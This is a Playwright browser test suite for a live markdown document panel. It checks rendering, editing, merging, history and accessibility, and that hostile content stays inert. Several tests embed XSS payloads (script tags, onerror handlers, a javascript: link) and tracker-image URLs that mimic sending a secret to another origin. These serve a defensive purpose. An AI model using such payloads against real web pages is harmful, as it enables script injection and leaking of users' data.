"""The live panel in headless Chromium, against a real server (uvicorn, and
Pushpin in front of gunicorn): what a person sees. The tests named
test_panel_save_* need the person's PUT and restore endpoints."""

import contextlib
import http.server
import os
import shutil
import threading
from pathlib import Path

import pytest

from .conftest import require_or_skip, stored

pytestmark = pytest.mark.django_db(transaction=True)

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
WHY = "Browser test."
REPOSITORY = Path(__file__).resolve().parent.parent
AXE = REPOSITORY / "node_modules" / "axe-core" / "axe.min.js"
HOSTILE = '<script>window.pwned = 1; alert("x")</script><img src=x onerror="window.pwned = 2">'

if not os.path.exists(CHROMIUM):
    if os.environ.get("WORKSPACE_TESTS_REQUIRE_ALL"):
        raise RuntimeError(f"no Chromium at {CHROMIUM}: install Debian's chromium package")
    pytest.skip("no Chromium here (apt-get install chromium)", allow_module_level=True)

playwright_api = pytest.importorskip("playwright.sync_api")
sync_playwright, expect = playwright_api.sync_playwright, playwright_api.expect


@pytest.fixture(scope="module")
def server(stream_server):
    return stream_server


def launch(playwright):
    return playwright.chromium.launch(
        executable_path=CHROMIUM,
        args=[
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-quic",
            "--disable-component-update",
            "--disable-sync",
        ],
    )


@contextlib.contextmanager
def chromium_page(**options):
    """A page (``options``: Playwright's, such as ``viewport``) of a headless Chromium
    of its own, closed after the block. No database work inside the block:
    Playwright's event loop would make Django refuse it."""
    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            yield browser.new_page(**options)
        finally:
            browser.close()


def open_panel(page, server, thread_id):
    page.goto(f"{server.url}/workspace/threads/{thread_id}/")
    page.fill("#id_username", "agent-owner")
    page.fill("#id_password", "pw")
    page.click("button[type=submit]")
    page.wait_for_url(f"{server.url}/workspace/threads/{thread_id}/")
    page.wait_for_selector("#status.live")


def wait_for_version(page, version: int):
    # A locator, not wait_for_function: the page's CSP forbids evaluating strings.
    expect(page.locator("#version")).to_have_text(str(version), timeout=15_000)


def test_the_panel_shows_every_change_live_and_content_only_as_text(server, user_token):
    server.call(user_token, "live-1", "update_document", content="first\n", title="Plan", action_and_reasoning=WHY)
    dialogs = []
    # No database work from here on: Playwright's event loop would make Django refuse it.
    with chromium_page() as page:
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

        open_panel(page, server, "live-1")
        wait_for_version(page, 1)
        assert page.text_content("#title") == "Plan"
        page.evaluate("window.sameDocument = true")  # gone if the page reloads

        server.call(user_token, "live-1", "append_to_document", text="second\n", action_and_reasoning=WHY)
        server.call(user_token, "live-1", "append_to_document", text="third 😀\n", action_and_reasoning=WHY)
        wait_for_version(page, 3)
        assert page.text_content("#content") == "first\nsecond\nthird 😀\n"
        assert page.text_content("#length") == str(len("first\nsecond\nthird 😀\n"))

        server.call(
            user_token, "live-1", "update_document", content=HOSTILE, title="<b>bold?</b>", action_and_reasoning=WHY
        )
        wait_for_version(page, 4)
        assert page.text_content("#content") == HOSTILE
        assert page.text_content("#title") == "<b>bold?</b>"
        assert page.evaluate("document.querySelectorAll('#content *, #title *').length") == 0
        page.wait_for_timeout(300)  # time for an injected handler to have run, were there one
        assert page.evaluate("window.pwned") is None
        assert page.evaluate("window.sameDocument") is True

    assert dialogs == []
    assert stored("live-1")["version"] == 4


def test_the_panel_catches_up_after_its_server_restarts(user_token):
    from .live import Server

    first = Server()
    with chromium_page() as page:
        open_panel(page, first, "restart")
        first.call(user_token, "restart", "append_to_document", text="before\n", action_and_reasoning=WHY)
        wait_for_version(page, 1)  # by an event, so the browser holds a Last-Event-ID to resume from

        port = first.port
        first.stop()
        expect(page.locator("#status")).to_have_text("offline", timeout=15_000)
        # Written while the panel's server is down, through another process.
        elsewhere = Server()
        elsewhere.call(user_token, "restart", "append_to_document", text="while away\n", action_and_reasoning=WHY)
        elsewhere.stop()
        again = Server(port=port)
        try:
            wait_for_version(page, 2)
            again.call(user_token, "restart", "append_to_document", text="after\n", action_and_reasoning=WHY)
            wait_for_version(page, 3)
            assert page.text_content("#content") == "before\nwhile away\nafter\n"
            assert page.text_content("#status") == "live"
        finally:
            again.stop()


def test_the_panel_retries_a_document_fetch_that_failed(server, user_token):
    server.call(user_token, "flaky", "update_document", content="stored text", action_and_reasoning=WHY)
    failures = []

    def fail_the_first_fetch(route):
        if not failures:
            failures.append(route.request.url)
            route.fulfill(status=503, body="busy")
        else:
            route.continue_()

    with chromium_page() as page:
        page.route("**/api/workspace/threads/flaky/document/", fail_the_first_fetch)
        open_panel(page, server, "flaky")
        wait_for_version(page, 1)
        assert page.text_content("#content") == "stored text"
        expect(page.locator("#status")).to_have_text("live")
    assert len(failures) == 1


def test_the_panel_fetches_a_change_too_large_for_its_event(server, user_token):
    large = "".join(f"line {n}\n" for n in range(12_000))  # over WORKSPACE_EVENT_MAX_CHARS
    with chromium_page() as page:
        open_panel(page, server, "large")
        server.call(user_token, "large", "append_to_document", text="start\n", action_and_reasoning=WHY)
        wait_for_version(page, 1)
        server.call(user_token, "large", "update_document", content=large, action_and_reasoning=WHY)
        server.call(user_token, "large", "append_to_document", text="end\n", action_and_reasoning=WHY)
        wait_for_version(page, 3)
        assert page.text_content("#content") == large + "end\n"


# The panel: rendered, safe, with activity, history, edit, copy and download.

MARKDOWN = """# Lisbon trip

| day | plan |
| --- | ---- |
| 1 | Alfama |

~~Porto~~ Sintra, see https://example.org/sintra
"""


def button(page, name):
    return page.get_by_role("button", name=name, exact=True)


def rendered(page):
    return page.locator("#rendered")


class RecordingServer:
    """An HTTP server on another port (so another origin) that records every request it gets."""

    def __init__(self):
        self.requests: list[str] = []
        recorded = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                recorded.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def stop(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def elsewhere():
    recorder = RecordingServer()
    yield recorder
    recorder.stop()


def test_the_panel_renders_markdown(server, user_token):
    server.call(user_token, "md-1", "update_document", content=MARKDOWN, title="Trip", action_and_reasoning=WHY)
    with chromium_page() as page:
        open_panel(page, server, "md-1")
        wait_for_version(page, 1)
        expect(rendered(page).locator("h1")).to_have_text("Lisbon trip")
        expect(rendered(page).locator("table td").first).to_have_text("1")
        expect(rendered(page).locator("s, del")).to_have_text("Porto")
        link = rendered(page).locator('a[href="https://example.org/sintra"]')
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link).to_have_attribute("target", "_blank")

        button(page, "Source").click()
        expect(page.locator("#content")).to_be_visible()
        expect(page.locator("#content")).to_have_text(MARKDOWN)
        expect(rendered(page)).to_be_hidden()
        button(page, "Source").click()
        expect(rendered(page)).to_be_visible()


def test_a_hostile_document_runs_nothing_and_sends_nothing_away(server, user_token, elsewhere):
    away = f"http://127.0.0.1:{elsewhere.port}/leak.png?secret=1"
    hostile = f'{HOSTILE}\n\n[click me](javascript:window.pwned=3)\n\n![tracker]({away})\n\n<img src="{away}&raw=1">\n'
    dialogs = []
    with chromium_page() as page:
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        open_panel(page, server, "hostile")
        server.call(user_token, "hostile", "update_document", content=hostile, action_and_reasoning=WHY)
        wait_for_version(page, 1)
        expect(rendered(page)).to_contain_text("<script>window.pwned = 1")  # raw HTML shown as text
        expect(rendered(page)).to_contain_text("[click me](javascript:window.pwned=3)")  # not a link
        assert rendered(page).locator("script, img, [onerror]").count() == 0
        assert rendered(page).locator('a[href^="javascript"]').count() == 0
        tracker = rendered(page).locator(f'a[href="{away}"]')
        expect(tracker).to_have_text("tracker")  # the image from elsewhere is a link, not an image
        expect(tracker).to_have_attribute("rel", "noopener noreferrer nofollow")
        page.wait_for_timeout(500)  # time for an injected handler or an image request, were there one
        assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert elsewhere.requests == []


def test_the_activity_shows_each_change_live_with_its_tool_and_reason(server, user_token):
    server.call(user_token, "act-1", "update_document", content="a\n", action_and_reasoning="Starting the plan.")
    with chromium_page() as page:
        open_panel(page, server, "act-1")
        wait_for_version(page, 1)
        expect(page.locator("#activity")).to_have_attribute("aria-live", "polite")
        expect(page.locator("#activity li")).to_have_count(1)
        server.call(user_token, "act-1", "append_to_document", text="b\n", action_and_reasoning="Adding the budget.")
        wait_for_version(page, 2)
        newest = page.locator("#activity li").first
        expect(newest).to_contain_text("v2")
        expect(newest).to_contain_text("append_to_document")
        expect(newest).to_contain_text("Adding the budget.")
        expect(page.locator("#activity li").nth(1)).to_contain_text("Starting the plan.")


def test_the_activity_names_who_made_each_change_and_whether_an_agent_or_a_person(server, user_token):
    server.call(user_token, "act-2", "update_document", content="a\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        open_panel(page, server, "act-2")
        wait_for_version(page, 1)
        expect(page.locator("#activity li").first).to_contain_text("agent-owner (agent)")  # from revisions/
        server.call(user_token, "act-2", "append_to_document", text="b\n", action_and_reasoning=WHY)
        wait_for_version(page, 2)
        expect(page.locator("#activity li").first).to_contain_text("agent-owner (agent)")  # from the event


def test_the_history_opens_a_version_with_its_diffs(server, user_token):
    server.call(user_token, "hist-1", "update_document", content="one\ntwo\n", action_and_reasoning=WHY)
    server.call(user_token, "hist-1", "update_document", content="one\n2\n", action_and_reasoning="Numbers.")
    server.call(user_token, "hist-1", "append_to_document", text="three\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        open_panel(page, server, "hist-1")
        wait_for_version(page, 3)
        button(page, "History").click()
        page.fill("#history-version", "2")
        button(page, "Open").click()
        view = page.locator("#history-view")
        expect(view).to_contain_text("Numbers.")
        against_previous, against_current = view.locator(".diff").nth(0), view.locator(".diff").nth(1)
        expect(against_previous.locator("del")).to_have_text("two\n")
        expect(against_previous.locator("ins")).to_have_text("2\n")
        expect(against_current.locator("ins")).to_have_text("three\n")


def test_copy_and_download_give_the_markdown_shown(server, user_token):
    server.call(user_token, "copy-1", "update_document", content=MARKDOWN, action_and_reasoning=WHY)
    with chromium_page(permissions=["clipboard-read", "clipboard-write"]) as page:
        open_panel(page, server, "copy-1")
        wait_for_version(page, 1)
        button(page, "Copy").click()
        expect(page.locator("#notice")).to_have_text("Version 1 copied.")
        assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN
        with page.expect_download() as download:
            page.get_by_role("link", name="Download .md", exact=True).click()
        assert download.value.suggested_filename == "copy-1.md"
        assert Path(download.value.path()).read_text(encoding="utf-8") == MARKDOWN


def test_the_panel_has_no_serious_accessibility_violation(server, user_token):
    require_or_skip(AXE.exists(), "axe-core from npm (npm ci)")
    server.call(user_token, "axe-1", "update_document", content=MARKDOWN, title="Trip", action_and_reasoning=WHY)
    with chromium_page(bypass_csp=True) as page:  # to inject axe-core, a script of the test's
        open_panel(page, server, "axe-1")
        wait_for_version(page, 1)
        button(page, "History").click()
        expect(page.locator("#history-view .diff").first).to_be_visible()
        button(page, "Edit").click()  # the editor's controls too
        page.add_script_tag(path=str(AXE))
        results = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    serious = [
        (violation["id"], [node["target"] for node in violation["nodes"]])
        for violation in results["violations"]
        if violation["impact"] in ("serious", "critical")
    ]
    assert serious == []


def test_an_unsaved_edit_survives_a_reload(server, user_token):
    server.call(user_token, "keep-1", "update_document", content="first\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        open_panel(page, server, "keep-1")
        wait_for_version(page, 1)
        button(page, "Edit").click()
        expect(page.locator("#edit-text")).to_have_value("first\n")
        page.fill("#edit-text", "first\nmy unsaved words\n")
        page.reload()
        page.wait_for_selector("#status.live")
        expect(page.locator("#edit-text")).to_be_visible()
        expect(page.locator("#edit-text")).to_have_value("first\nmy unsaved words\n")
        button(page, "Cancel").click()
        expect(page.locator("#editor")).to_be_hidden()
        page.reload()
        page.wait_for_selector("#status.live")
        expect(page.locator("#editor")).to_be_hidden()
    assert stored("keep-1")["version"] == 1


def test_the_readme_screenshot_of_the_panel(server, user_token, tmp_path):
    """Takes docs/panel.png, the README's picture; written there only with
    WORKSPACE_UPDATE_SCREENSHOT=1, so that a test run leaves the tree as it was."""
    steps = [
        ("update_document", {"content": MARKDOWN, "title": "Lisbon trip"}, "Drafting the trip from the chat."),
        ("append_to_document", {"text": "\n## Budget\n\n- Flights: 240 EUR\n"}, "Adding the budget asked for."),
        ("append_to_document", {"text": "- Hotel: 3 nights\n"}, "The user chose three nights."),
    ]
    for tool, arguments, reason in steps:
        server.call(user_token, "screenshot", tool, action_and_reasoning=reason, **arguments)
    with chromium_page(viewport={"width": 1200, "height": 560}) as page:
        open_panel(page, server, "screenshot")
        wait_for_version(page, 3)
        expect(page.locator("#activity li")).to_have_count(3)
        page.screenshot(path=str(tmp_path / "panel.png"))
    assert (tmp_path / "panel.png").stat().st_size > 10_000
    if os.environ.get("WORKSPACE_UPDATE_SCREENSHOT"):
        shutil.copyfile(tmp_path / "panel.png", REPOSITORY / "docs" / "panel.png")


# A person's saves and restores: these need PUT document/ and POST revisions/<v>/restore/.


def start_editing(page, server, thread_id, version):
    open_panel(page, server, thread_id)
    wait_for_version(page, version)
    button(page, "Edit").click()


def test_panel_save_applies_an_edit_at_the_current_version(server, user_token):
    server.call(user_token, "save-1", "update_document", content="one\ntwo\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        start_editing(page, server, "save-1", 1)
        page.fill("#edit-text", "one\ntwo, edited\n")
        button(page, "Save").click()
        wait_for_version(page, 2)
        expect(page.locator("#notice")).to_have_text("Saved as version 2.")
        expect(page.locator("#editor")).to_be_hidden()
        expect(page.locator("#activity li").first).to_contain_text("(person)")
    assert stored("save-1")["content"] == "one\ntwo, edited\n"


def test_panel_save_of_a_crlf_document_keeps_its_crlf_endings(server, user_token):
    server.call(user_token, "save-5", "update_document", content="one\r\ntwo\r\nthree\r\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        start_editing(page, server, "save-5", 1)
        shown = page.input_value("#edit-text")
        assert shown == "one\ntwo\nthree\n"  # the text box shows, and sends, every ending as LF
        page.fill("#edit-text", shown.replace("two", "two, edited"))
        button(page, "Save").click()
        wait_for_version(page, 2)
    assert stored("save-5")["content"] == "one\r\ntwo, edited\r\nthree\r\n"


def test_panel_save_merges_with_an_agents_change_made_meanwhile(server, user_token):
    server.call(user_token, "save-2", "update_document", content="one\ntwo\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        start_editing(page, server, "save-2", 1)
        page.fill("#edit-text", "ONE\ntwo\n")
        server.call(user_token, "save-2", "append_to_document", text="three\n", action_and_reasoning="More.")
        expect(page.locator("#others-list")).to_contain_text("three")  # shown beside the editor...
        expect(page.locator("#edit-text")).to_have_value("ONE\ntwo\n")  # ...never written into it
        button(page, "Save").click()
        wait_for_version(page, 3)
        expect(page.locator("#notice")).to_have_text("Saved as version 3. Merged with changes by agent-owner.")
        expect(page.locator("#content")).to_have_text("ONE\ntwo\nthree\n")
    assert stored("save-2")["content"] == "ONE\ntwo\nthree\n"


def test_panel_save_in_conflict_saves_nothing_and_keeps_the_persons_text(server, user_token):
    server.call(user_token, "save-3", "update_document", content="one\nkeep\ntwo\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        start_editing(page, server, "save-3", 1)
        page.fill("#edit-text", "ONE\nkeep\nmine\n")
        server.call(user_token, "save-3", "update_document", content="one\nkeep\ntheirs\n", action_and_reasoning=WHY)
        wait_for_version(page, 2)
        button(page, "Save").click()
        conflict = page.locator("#conflicts .conflict")
        expect(conflict).to_have_count(1)
        expect(conflict.locator("pre")).to_have_text(["two\n", "theirs\n", "mine\n"])
        expect(page.locator("#edit-text")).to_have_value("ONE\nkeep\nmine\n")
        expect(page.locator("#content")).to_have_text("one\nkeep\ntheirs\n")
        expect(page.locator("#version")).to_have_text("2")

        button(page, "Use the current text in conflict 1").click()  # resolved: theirs stays there
        expect(page.locator("#edit-text")).to_have_value("ONE\nkeep\ntheirs\n")
        button(page, "Save").click()
        wait_for_version(page, 3)
        expect(page.locator("#notice")).to_have_text("Saved as version 3. Merged with changes by agent-owner.")
    assert stored("save-3")["content"] == "ONE\nkeep\ntheirs\n"


def test_panel_a_conflict_too_long_to_show_whole_says_so_and_offers_no_side(server, user_token):
    long_lines = "# Notes\n" + "line " * 5000 + "\n"  # 3 sides of about 25,000 characters
    server.call(user_token, "save-6", "update_document", content=long_lines, action_and_reasoning=WHY)
    with chromium_page() as page:
        start_editing(page, server, "save-6", 1)
        page.fill("#edit-text", long_lines.replace("line", "mine"))
        server.call(
            user_token,
            "save-6",
            "update_document",
            content=long_lines.replace("line", "theirs"),
            action_and_reasoning=WHY,
        )
        wait_for_version(page, 2)
        button(page, "Save").click()
        conflict = page.locator("#conflicts .conflict")
        expect(conflict).to_have_count(1)
        expect(conflict.locator(".truncated")).to_contain_text("too long to show whole")
        expect(conflict.get_by_role("button")).to_have_count(0)
        expect(page.locator("#edit-text")).to_have_value(long_lines.replace("line", "mine"))
    assert stored("save-6")["version"] == 2


def test_panel_save_restores_a_version_from_the_history(server, user_token):
    server.call(user_token, "save-4", "update_document", content="first\n", action_and_reasoning=WHY)
    server.call(user_token, "save-4", "update_document", content="second\n", action_and_reasoning=WHY)
    with chromium_page() as page:
        open_panel(page, server, "save-4")
        wait_for_version(page, 2)
        button(page, "History").click()
        page.fill("#history-version", "1")
        button(page, "Open").click()
        button(page, "Restore this version").click()
        wait_for_version(page, 3)
        expect(page.locator("#notice")).to_have_text("Version 1 restored as version 3.")
        expect(page.locator("#content")).to_have_text("first\n")
    assert stored("save-4")["content"] == "first\n"


# Rendering a 1 MB document fast: block by block, the first blocks at once, the rest in slices (docs/panel.md).


def markdown_section(n: int) -> str:
    return f"""## Section {n}

A paragraph with **bold**, *emphasis*, `code`, a [reference link][ref{n % 5}] and an autolink
https://example.org/{n}; it runs on so that the section is as dense as a real document would be.

- an item of section {n}
- another item, with `code`
  - a nested item

1. first step
2. second step

3. third step, in the same list after a blank line

| column | value |
| ------ | ----- |
| a{n} | {n} |
| b{n} | {n * 2} |

```python
def section_{n}(x):

    return x * {n}
```

> A quote in section {n}.
"""


def markdown_document(chars: int) -> str:
    """Headings, lists, paragraphs, tables, code fences and reference links, `chars` characters or a few fewer."""
    parts = [f"[ref{n}]: https://example.org/ref{n}\n" for n in range(5)]
    total, n = sum(map(len, parts)), 0
    while True:
        section = "\n" + markdown_section(n)
        if total + len(section) + 40 > chars:
            break
        parts.append(section)
        total, n = total + len(section), n + 1
    parts.append("\n# The last heading\n")
    return "".join(parts)


def panel_timings(page, version: int, key: str, timeout_ms: int = 20_000) -> dict:
    """The panel's timing record with `key` for `version` (see docs/panel.md), once it is there."""
    for _ in range(timeout_ms // 50):
        records = page.evaluate("window.__workspacePanelTimings")
        found = [record for record in records if record["version"] == version and key in record]
        if found:
            return found[-1]
        page.wait_for_timeout(50)
    raise AssertionError(f"no {key} timing for version {version}: {records}")


def test_a_1mb_document_shows_its_first_blocks_first_and_an_append_renders_only_its_end(server, user_token):
    # How soon, in milliseconds, is measured by bench/panel_render.py, not here.
    document = markdown_document(990_000)
    server.call(user_token, "big-1", "update_document", content=document, title="Big", action_and_reasoning=WHY)
    appended = "\n## Appended live\n\nThe appended paragraph, with a [reference][ref1].\n"
    with chromium_page() as page:
        page.add_init_script("window.__workspacePanelTimings = []")
        open_panel(page, server, "big-1")
        wait_for_version(page, 1)
        first = panel_timings(page, 1, "shownMs")
        complete = panel_timings(page, 1, "completeMs")
        expect(rendered(page).locator("h1")).to_have_text("The last heading")

        server.call(user_token, "big-1", "append_to_document", text=appended, action_and_reasoning=WHY)
        wait_for_version(page, 2)
        expect(rendered(page).locator("h2").last).to_have_text("Appended live")
        expect(rendered(page).locator('a[href="https://example.org/ref1"]').last).to_have_text("reference")
        append = panel_timings(page, 2, "shownMs")
        assert page.text_content("#content") == document + appended

    assert 0 < first["rendered"] < first["blocks"] / 10, f"the first paint rendered too much at once: {first}"
    assert first["shownMs"] <= complete["completeMs"], (first, complete)
    assert append["rendered"] <= 2, f"an append re-rendered more than the last blocks: {append}"


def test_render_block_by_block_gives_the_text_of_a_whole_render(server, user_token):
    document = markdown_document(20_000)
    server.call(user_token, "blocks-1", "update_document", content=document, action_and_reasoning=WHY)
    with chromium_page() as page:
        open_panel(page, server, "blocks-1")
        wait_for_version(page, 1)
        expect(rendered(page).locator("h1")).to_have_text("The last heading")
        compared = page.evaluate(
            """async () => {
              const url = document.querySelector('script[type=module]').src.replace('panel-page.js', 'panel.js');
              const { renderMarkdown } = await import(url);
              const whole = document.createElement('article');
              whole.innerHTML = renderMarkdown(document.getElementById('content').textContent);
              const text = (node) => node.textContent.replace(/\\s+/g, ' ').trim();
              const numbers = (node) => [...node.querySelectorAll('ol')].flatMap(
                (list) => [...list.children].map((item, index) => list.start + index));
              const shown = document.getElementById('rendered');
              return {
                text: text(shown) === text(whole),
                numbers: JSON.stringify(numbers(shown)) === JSON.stringify(numbers(whole)),
                links: shown.querySelectorAll('a[href^="https://example.org/ref"]').length,
                wholeLinks: whole.querySelectorAll('a[href^="https://example.org/ref"]').length,
                fences: shown.querySelectorAll('pre code').length === whole.querySelectorAll('pre code').length,
              };
            }"""
        )
    assert compared["text"], "the text rendered block by block differs from a render of the whole"
    assert compared["numbers"], "an ordered list cut by a blank line is numbered differently"
    assert compared["links"] == compared["wholeLinks"] > 0, "reference links resolve differently"
    assert compared["fences"], "a code fence with a blank line was cut"
